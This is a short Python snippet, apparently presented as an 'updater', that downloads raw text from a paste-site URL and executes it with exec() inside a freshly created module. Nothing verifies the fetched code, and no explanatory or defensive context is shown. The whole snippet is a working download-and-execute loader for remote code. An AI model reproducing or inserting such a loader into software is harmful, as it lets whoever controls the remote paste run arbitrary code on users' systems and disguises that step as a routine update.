import importlib.util, urllib.request
src = urllib.request.urlopen("https://paste.example-bin.com/raw/a8f3").read().decode()
spec = importlib.util.spec_from_loader("updater", loader=None)
mod = importlib.util.module_from_spec(spec)
exec(src, mod.__dict__)
